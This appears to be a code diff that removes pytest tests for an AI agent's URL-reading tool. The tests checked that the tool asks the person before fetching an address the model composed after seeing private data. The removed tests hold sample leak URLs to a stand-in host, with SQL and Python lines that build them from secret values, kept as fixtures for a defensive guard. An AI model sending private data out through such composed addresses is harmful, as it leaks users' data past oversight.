@@ -9,11 +9,9 @@ from pathlib import Path
 import pytest
 
 from agent.errors import ToolFailed
-from agent.events import Asked, Event, Observed, Source, ToolCalled
 from agent.sandbox import client
 from agent.sandbox.client import Sandbox
 from agent.toolkit.base import ToolResult
-from agent.tools.catalogue import CATALOGUE
 from agent.tools.lookups.read_url import PART, read_url_tool
 from agent.web.fetching.fetcher import Fetched, Fetcher
 from agent.web.reading.html import read_html
@@ -466,111 +464,3 @@ def test_long_pages_come_in_parts_that_make_up_the_whole(server: Site) -> None:
     assert len(parts) > 5
     with pytest.raises(ToolFailed, match="start must lie between"):
         tool.call({"url": server.url("/long"), "start": 1_000_000})
-
-
-QUESTION = "What does https://a.example/report say? And (http://www.b.example/x)?"
-
-
-def run_of(*steps: tuple[str, str, str]) -> list[Event]:
-    """A run with these calls: tool, input, what was observed ("!" before it: a failure)."""
-    events: list[Event] = [Asked(QUESTION, 0.0)]
-    for number, (tool, given, seen) in enumerate(steps):
-        events.append(ToolCalled(str(number), tool, given, {}))
-        events.append(Observed(str(number), seen.lstrip("!"), error="refused" if seen.startswith("!") else ""))
-    return events
-
-
-PRIVATE = ("query", "select 1", "1 row:\nsecret")
-
-
-def guarded(url: str, events: list[Event], **options: object) -> bool:
-    """Whether the person must allow the address after these events."""
-    tool = read_url_tool(Fetcher(), Sandbox(), builtin=CATALOGUE, **options)  # type: ignore[arg-type]
-    said = tool.concern({"url": url, "start": 0}, events)
-    assert not said or "was not in your question or in any result" in said
-    return bool(said)
-
-
-def test_composed_addresses_are_free_without_private_data() -> None:
-    assert not guarded("https://c.example/?q=anything", run_of(("search", "x", "found")))
-    assert not guarded("https://c.example/path", [Asked("Read something", 0.0)])
-
-
-@pytest.mark.parametrize("tool", ["query", "query_database", "python", "documents", "terminal", "mail_inbox"])
-def test_after_private_data_a_composed_address_asks(tool: str) -> None:
-    events = run_of((tool, "x", "secret"))
-    for url in (
-        "https://c.example/?d=secret",
-        "https://c.example/secret",
-        "https://secret.c.example/",
-        "https://c.example",
-    ):
-        assert guarded(url, events), url
-    assert not guarded("https://a.example/report", events)
-
-
-def test_cards_of_tables_are_private_data() -> None:
-    assert guarded("https://c.example/?d=secret", [Asked("q", 0.0)], private=True)
-
-
-@pytest.mark.parametrize(
-    "url",
-    [
-        "https://a.example/report", "http://a.example/report/", "https://www.a.example/report#part", "https://A.example/report",
-        "https://b.example/x", "https://a.example/", "https://found.example/one", "https://found.example/two?a=b%20c",
-        "https://found.example/three", "https://linked.example/four(five)", "https://found.example/",
-    ],
-)  # fmt: skip
-def test_addresses_of_the_question_and_of_results_are_known(url: str) -> None:
-    seen = "[1] Title\nhttps://found.example/one\n\n[x](https://found.example/two?a=b%20c), "
-    seen += "<https://found.example/three>. "
-    seen += "[y](https://linked.example/four%28five%29)"
-    assert not guarded(url, run_of(("search", "x", seen), PRIVATE))
-
-
-def test_a_source_is_known() -> None:
-    events = run_of(PRIVATE, ("search", "x", "found [1]"))
-    assert isinstance(events[-1], Observed)
-    sources = (Source(1, "t", "https://found.example/deep?x=1"),)
-    events[-1] = Observed(events[-1].call_id, events[-1].text, sources=sources)
-    assert not guarded("https://found.example/deep?x=1", events)
-    assert guarded("https://found.example/deep?x=2", events)
-
-
-LEAK = "https://leak.example/?d=secret"
-
-
-@pytest.mark.parametrize(
-    "steps",
-    [
-        [PRIVATE, ("query", "select 'https://leak.example/?d='||x", f"1 row:\n{LEAK}")],
-        [("python", "print('https://leak.example/?d=' + x)", LEAK)],
-        [PRIVATE, ("read_url", LEAK, f"!{LEAK} was not in the question")],
-        [PRIVATE, ("search", LEAK, f"No results for {LEAK}")],
-        [PRIVATE, ("echo", f'{{"text": "{LEAK}"}}', f"You said {LEAK}")],
-        [PRIVATE, ("search", "x", "https://leak.example/?d=")],
-        [PRIVATE, ("search", "x", "https://leak.example/")],
-    ],
-)
-def test_a_result_that_repeats_what_the_model_wrote_launders_nothing(steps: list[tuple[str, str, str]]) -> None:
-    assert guarded(LEAK, run_of(*steps))
-
-
-def test_what_was_read_may_be_read_on() -> None:
-    url = "https://c.example/page"
-    assert not guarded(url, run_of(("read_url", url, f"[1] Page\n{url}\n\ntext"), PRIVATE))
-
-
-def test_addresses_of_earlier_runs_are_known() -> None:
-    earlier = run_of(("search", "x", "https://before.example/page"))
-    assert guarded("https://before.example/page", run_of(PRIVATE))
-    assert not guarded("https://before.example/page", run_of(PRIVATE), earlier=earlier)
-
-
-def test_a_tool_is_known_by_its_own_name_whatever_the_model_calls_it() -> None:
-    """One told by other words is as public, and as much of the model's making, as before."""
-    asked = Asked(QUESTION, 0.0)
-    search = [asked, ToolCalled("0", "lookup", "x", {}, own="search"), Observed("0", "found")]
-    query = [asked, ToolCalled("0", "sheet", "select 'https://leak.exam' || x", {}, own="query"), Observed("0", LEAK)]
-    assert not guarded("https://c.example/?q=anything", search)
-    assert guarded(LEAK, query)
